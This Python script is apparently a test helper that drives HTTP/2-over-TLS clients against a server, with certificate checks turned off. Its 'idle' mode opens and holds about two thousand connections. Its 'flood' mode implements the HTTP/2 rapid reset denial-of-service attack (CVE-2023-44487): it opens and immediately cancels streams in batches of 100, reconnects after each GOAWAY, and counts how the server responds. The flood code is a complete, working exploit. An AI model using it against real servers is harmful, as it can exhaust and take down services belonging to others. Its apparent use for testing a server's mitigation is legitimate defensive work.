#!/usr/bin/env python3
"""HTTP/2 clients over TLS (ALPN h2, certificates not checked) for scripts/compare_h2.sh.

idle: opens N connections, each finishing its handshake and one `GET PATH` answered with
a 2xx, then holds them idle (answering what the server sends, such as PINGs). Once every
connection has been tried it prints

    READY open=1998 failed=2 seconds=4.10

and holds them until SIGTERM/SIGINT.

flood: rapid reset (CVE-2023-44487) for SECONDS: on one connection at a time, opens a
stream with `GET PATH` and resets it (RST_STREAM CANCEL) at once, BATCH streams per write,
reading whatever the server sends between batches. When the server ends the connection
(GOAWAY, or a close or reset of the socket) it opens the next one. At the end it prints

    FLOOD seconds=5.0 connections=12 streams=118000 goaway=ENHANCE_YOUR_CALM:11 ended=goaway:11,eof:1

goaway counts the GOAWAY frames read, by error code; ended counts how the connections
ended: with a GOAWAY read, at the end of the stream without one (eof), or with an error
(on a write: "write ERROR", after reading what the server sent before it closed).

Only the address given is ever contacted. Needs the `h2` package (pip install h2).
"""

import argparse
import errno
import resource
import selectors
import signal
import socket
import ssl
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions
except ImportError:
    print("h2_clients: the Python package h2 is not installed (pip install h2)", file=sys.stderr)
    sys.exit(3)


def tls_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


def new_h2():
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    return conn


def request_headers(args):
    return [(b":method", b"GET"), (b":scheme", b"https"), (b":path", args.path.encode()),
            (b":authority", f"{args.host}:{args.port}".encode()), (b"user-agent", b"h2_clients")]


class Idle:
    __slots__ = ("sock", "h2", "state", "started", "status")

    def __init__(self, sock):
        self.sock = sock
        self.h2 = None
        self.state = "connecting"
        self.started = time.monotonic()
        self.status = None


def flush(c):
    """Sends what the h2 state machine has queued; the socket's buffer is large enough for
    the few frames an idle client sends."""
    data = c.h2.data_to_send()
    if data:
        c.sock.sendall(data)


def idle_main(args):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.connections + 64
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))
    stop = False

    def on_signal(_sig, _frame):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    ctx = tls_context()
    headers = request_headers(args)
    sel = selectors.DefaultSelector()
    pending, idle, errors = {}, [], {}
    to_start = args.connections
    t0 = time.monotonic()

    def fail(c, why):
        errors[why] = errors.get(why, 0) + 1
        sel.unregister(c.sock)
        del pending[c.sock.fileno()]
        c.sock.close()

    while (to_start or pending) and not stop:
        while to_start and len(pending) < args.in_flight:
            to_start -= 1
            s = socket.socket()
            s.setblocking(False)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.connect_ex((args.host, args.port))
            s = ctx.wrap_socket(s, do_handshake_on_connect=False)
            c = Idle(s)
            pending[s.fileno()] = c
            sel.register(s, selectors.EVENT_WRITE, c)
        for key, _ in sel.select(timeout=0.2):
            c = key.data
            try:
                if c.state == "connecting":
                    err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    if err:
                        fail(c, f"connect errno {err}")
                        continue
                    c.state = "handshaking"
                if c.state == "handshaking":
                    try:
                        c.sock.do_handshake()
                    except ssl.SSLWantReadError:
                        sel.modify(c.sock, selectors.EVENT_READ, c)
                        continue
                    except ssl.SSLWantWriteError:
                        sel.modify(c.sock, selectors.EVENT_WRITE, c)
                        continue
                    if c.sock.selected_alpn_protocol() != "h2":
                        fail(c, f"ALPN chose {c.sock.selected_alpn_protocol()}")
                        continue
                    c.h2 = new_h2()
                    c.h2.send_headers(1, headers, end_stream=True)
                    flush(c)
                    c.state = "reading"
                    sel.modify(c.sock, selectors.EVENT_READ, c)
                    continue
                data = c.sock.recv(65536)
                if not data:
                    fail(c, "closed before the answer")
                    continue
                for ev in c.h2.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        c.status = dict(ev.headers).get(b":status", b"?").decode()
                    elif isinstance(ev, h2.events.DataReceived):
                        c.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, h2.events.StreamEnded):
                        c.state = "answered"
                flush(c)
                if c.state == "answered":
                    if not (c.status or "").startswith("2"):
                        fail(c, f"status {c.status}")
                        continue
                    del pending[c.sock.fileno()]
                    idle.append(c)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except (OSError, h2.exceptions.ProtocolError) as e:
                fail(c, type(e).__name__)
        now = time.monotonic()
        for c in [c for c in pending.values() if now - c.started > args.timeout]:
            fail(c, "timeout")

    failed = sum(errors.values())
    print(f"READY open={len(idle)} failed={failed} seconds={time.monotonic() - t0:.2f}", flush=True)
    if errors:
        print("h2_clients: failures: " + ", ".join(f"{k} x{v}" for k, v in sorted(errors.items())),
              file=sys.stderr)
    closed = 0
    while not stop:
        for key, _ in sel.select(timeout=1.0):
            c = key.data
            try:
                data = c.sock.recv(65536)
                if data:
                    c.h2.receive_data(data)
                    flush(c)
                    continue
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (OSError, h2.exceptions.ProtocolError):
                pass
            closed += 1
            sel.unregister(c.sock)
            c.sock.close()
    if closed:
        print(f"h2_clients: {closed} connections were closed by the server while idle", file=sys.stderr)
    return 0 if failed == 0 and closed == 0 else 1


def error_name(e):
    if isinstance(e, (ssl.SSLError, h2.exceptions.ProtocolError)):
        return type(e).__name__
    return errno.errorcode.get(e.errno, type(e).__name__)


def take_in(s, conn, goaways, wait):
    """Feeds CONN what the server has sent, waiting up to WAIT seconds (0: not at all);
    returns how the connection ended ("goaway", "eof" or an error), or None while open."""
    if wait:
        s.settimeout(wait)
    else:
        s.setblocking(False)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return "eof"
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated):
                    name = getattr(ev.error_code, "name", str(ev.error_code))
                    goaways[name] = goaways.get(name, 0) + 1
                    return "goaway"
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, socket.timeout):
        return None
    except (OSError, h2.exceptions.ProtocolError) as e:
        return error_name(e)


def flood_main(args):
    ctx = tls_context()
    headers = request_headers(args)
    deadline = time.monotonic() + args.seconds
    connections = streams = 0
    goaways, ends = {}, {}
    while time.monotonic() < deadline:
        try:
            raw = socket.create_connection((args.host, args.port), timeout=5)
            s = ctx.wrap_socket(raw)
        except OSError as e:
            ends["connect " + error_name(e)] = ends.get("connect " + error_name(e), 0) + 1
            time.sleep(0.1)
            continue
        connections += 1
        conn = new_h2()
        end = None
        while end is None and time.monotonic() < deadline:
            try:
                for _ in range(args.batch):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    streams += 1
                s.settimeout(5)
                s.sendall(conn.data_to_send())
            except (OSError, h2.exceptions.ProtocolError) as e:
                # The server ended the connection while we wrote: what it sent before may
                # hold its GOAWAY.
                end = "goaway" if take_in(s, conn, goaways, 0.5) == "goaway" else "write " + error_name(e)
                break
            end = take_in(s, conn, goaways, 0)
        if end is not None:
            ends[end] = ends.get(end, 0) + 1
        s.close()

    def show(table):
        return ",".join(f"{k}:{v}" for k, v in sorted(table.items())) or "none"

    print(f"FLOOD seconds={args.seconds} connections={connections} streams={streams} "
          f"goaway={show(goaways)} ended={show(ends)}", flush=True)
    return 0


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=("idle", "flood"))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/", help="path of the GETs (default /)")
    p.add_argument("-n", "--connections", type=int, default=2000, help="idle: connections (default 2000)")
    p.add_argument("--in-flight", type=int, default=10, help="idle: connections being opened at once (default 10)")
    p.add_argument("--timeout", type=float, default=10.0, help="idle: seconds for one to be answered (default 10)")
    p.add_argument("--seconds", type=float, default=5.0, help="flood: how long (default 5)")
    p.add_argument("--batch", type=int, default=100, help="flood: streams opened and reset per write (default 100)")
    args = p.parse_args()
    return idle_main(args) if args.mode == "idle" else flood_main(args)


if __name__ == "__main__":
    sys.exit(main())
